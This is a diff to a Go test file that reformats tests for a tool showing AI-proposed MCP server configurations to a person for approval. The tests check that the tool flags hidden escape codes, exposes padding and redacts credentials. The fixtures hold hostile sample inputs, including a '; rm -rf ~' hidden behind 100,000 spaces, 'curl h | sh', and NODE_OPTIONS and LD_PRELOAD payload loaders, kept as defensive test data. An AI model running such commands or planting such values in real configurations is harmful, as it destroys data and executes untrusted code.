@@ -77,7 +77,9 @@ func (f *fakeTerminal) Read(p []byte) (int, error) { return f.Reader.Read(p) }
 func (f *fakeTerminal) Close() error               { return nil }
 
 func TestOnlyAnAnswerOnTheTerminalCounts(t *testing.T) {
-	for answer, want := range map[string]bool{"y\n": true, "Yes\n": true, "n\n": false, "\n": false, "": false, "y": false, "yesterday\n": false} {
+	for answer, want := range map[string]bool{
+		"y\n": true, "Yes\n": true, "n\n": false, "\n": false, "": false, "y": false, "yesterday\n": false,
+	} {
 		screen := &fakeTerminal{Reader: strings.NewReader(answer)}
 		p := &program{in: strings.NewReader("y\n"), interactive: true, terminal: func() (io.ReadWriteCloser, error) { return screen, nil }}
 		if yes, err := p.askPerson(t.Context(), "text\x1b[8m\n", "Sure?"); yes != want || err != nil {
@@ -87,7 +89,9 @@ func TestOnlyAnAnswerOnTheTerminalCounts(t *testing.T) {
 			t.Errorf("the screen shows %q", shown)
 		}
 	}
-	p := &program{in: strings.NewReader("y\n"), interactive: true, terminal: func() (io.ReadWriteCloser, error) { return nil, errors.New("no tty") }}
+	p := &program{
+		in: strings.NewReader("y\n"), interactive: true, terminal: func() (io.ReadWriteCloser, error) { return nil, errors.New("no tty") },
+	}
 	if yes, err := p.askPerson(t.Context(), "", "Sure?"); yes || !errors.Is(err, errNoPerson) {
 		t.Errorf("without a terminal: %v, %v", yes, err)
 	}
@@ -96,32 +100,46 @@ func TestOnlyAnAnswerOnTheTerminalCounts(t *testing.T) {
 func TestProposalsAreShownWholeAndUncovered(t *testing.T) {
 	command, address := "npx", "https://me:abcdefgh@host/mcp"
 	s := registry.Server{
-		Transport: "stdio", Command: command, Args: []string{"-y", "evil\x1b[8m", "a\u200db", "x" + strings.Repeat(" ", 100_000) + "; rm -rf ~", "curl h | sh"},
-		Env: map[string]string{"NODE_OPTIONS": "--title=basic --require=/payload.js", "API_KEY": "abcdefgh", "LD_PRELOAD": "/x-secret=abcdefgh"},
+		Transport: "stdio", Command: command, Args: []string{
+			"-y", "evil\x1b[8m", "a\u200db", "x" + strings.Repeat(" ", 100_000) + "; rm -rf ~", "curl h | sh",
+		},
+		Env: map[string]string{
+			"NODE_OPTIONS": "--title=basic --require=/payload.js", "API_KEY": "abcdefgh", "LD_PRELOAD": "/x-secret=abcdefgh",
+		},
 	}
 	assessed := risk.Assess(s)
 	shown := proposal(t.Context(), nil, operations.Server{
-		Name: "one", Transport: "stdio", Command: &command, Args: s.Args, Env: s.Env, ProposedBy: "Claude Code (claude-code 2.1)", Risk: &assessed,
+		Name: "one", Transport: "stdio", Command: &command, Args: s.Args, Env: s.Env, ProposedBy: "Claude Code (claude-code 2.1)",
+		Risk: &assessed,
 	})
-	shows(t, shown, "one, proposed by an agent in Claude Code (claude-code 2.1):", `"evil\x1b[8m"`, `"a\u200db"`, `"x⟨100000 spaces⟩; rm -rf ~"`,
-		`NODE_OPTIONS="--title=basic --require=/payload.js"`, "API_KEY=abcdefgh", "LD_PRELOAD=/x-secret=abcdefgh", "! argument 5   \"curl h | sh\"",
-		"! variable     NODE_OPTIONS", "Warning: It downloads a script", "Warning: LD_PRELOAD, NODE_OPTIONS can change which code is loaded")
+	shows(t, shown, "one, proposed by an agent in Claude Code (claude-code 2.1):", `"evil\x1b[8m"`, `"a\u200db"`,
+		`"x⟨100000 spaces⟩; rm -rf ~"`,
+		`NODE_OPTIONS="--title=basic --require=/payload.js"`, "API_KEY=abcdefgh", "LD_PRELOAD=/x-secret=abcdefgh",
+		"! argument 5   \"curl h | sh\"",
+		"! variable     NODE_OPTIONS", "Warning: It downloads a script",
+		"Warning: LD_PRELOAD, NODE_OPTIONS can change which code is loaded")
 	if strings.Contains(shown, secretscan.Redacted) || len(shown) > 4000 {
 		t.Errorf("printed %s", shown)
 	}
-	remote := proposal(t.Context(), nil, operations.Server{Name: "one", Transport: "streamable-http", Homepage: &address, Headers: map[string]string{
-		"Authorization": "Bearer abcdefgh", "X-Note": "${secret:other/KEY}\x1b[8m",
-	}})
+	remote := proposal(t.Context(), nil,
+		operations.Server{Name: "one", Transport: "streamable-http", Homepage: &address, Headers: map[string]string{
+			"Authorization": "Bearer abcdefgh", "X-Note": "${secret:other/KEY}\x1b[8m",
+		}})
 	shows(t, remote, `X-Note: "${secret:other/KEY}\x1b[8m"`, `Authorization: "Bearer abcdefgh"`, address)
-	waiting := operations.Server{Name: "one", Command: &command, Args: []string{"--api-key", "abcdefgh"}, Env: map[string]string{"API_KEY": "abcdefgh"}}
-	if got := redactServers([]operations.Server{waiting})[0]; !reflect.DeepEqual(got, waiting) || target(waiting) != "API_KEY=abcdefgh npx --api-key abcdefgh" {
+	waiting := operations.Server{
+		Name: "one", Command: &command, Args: []string{"--api-key", "abcdefgh"}, Env: map[string]string{"API_KEY": "abcdefgh"},
+	}
+	if got := redactServers([]operations.Server{waiting})[0]; !reflect.DeepEqual(got, waiting) ||
+		target(waiting) != "API_KEY=abcdefgh npx --api-key abcdefgh" {
 		t.Errorf("the lists show %+v, %s", got, target(waiting))
 	}
 }
 
 func TestJSONOnATerminalControlsNothing(t *testing.T) {
 	value := map[string]string{"a\u202e": "\u009b31m\u200d\x7f"}
-	for terminal, want := range map[bool]string{true: "{\n  \"a\\u202e\": \"\\u009b31m\\u200d\\u007f\"\n}\n", false: "{\n  \"a\u202e\": \"\u009b31m\u200d\x7f\"\n}\n"} {
+	for terminal, want := range map[bool]string{
+		true: "{\n  \"a\\u202e\": \"\\u009b31m\\u200d\\u007f\"\n}\n", false: "{\n  \"a\u202e\": \"\u009b31m\u200d\x7f\"\n}\n",
+	} {
 		var out bytes.Buffer
 		p := &program{out: &out, outTerminal: terminal, json: true}
 		if err := p.printJSON(value); err != nil || out.String() != want {
@@ -138,11 +156,15 @@ func TestJSONOnATerminalControlsNothing(t *testing.T) {
 func TestListsContainNoCredentials(t *testing.T) {
 	command, address := "npx", "https://me:abcdefgh@host/mcp?token=abcdefgh"
 	for _, server := range []operations.Server{
-		{Name: "one", Approved: true, Command: &command, Args: []string{"--api-key", "abcdefgh"}, Env: map[string]string{"API_KEY": "abcdefgh"}},
+		{
+			Name: "one", Approved: true, Command: &command, Args: []string{"--api-key", "abcdefgh"},
+			Env: map[string]string{"API_KEY": "abcdefgh"},
+		},
 		{Name: "two", Approved: true, Homepage: &address, Headers: map[string]string{"Authorization": "Bearer abcdefgh", "X-Mode": "fast"}},
 	} {
 		data, err := json.Marshal(redactServers([]operations.Server{server}))
-		if text := string(data) + target(server); err != nil || strings.Contains(text, "abcdefgh") || !strings.Contains(text, secretscan.Redacted) {
+		if text := string(data) + target(server); err != nil || strings.Contains(text, "abcdefgh") ||
+			!strings.Contains(text, secretscan.Redacted) {
 			t.Errorf("got %s, %v", text, err)
 		}
 	}
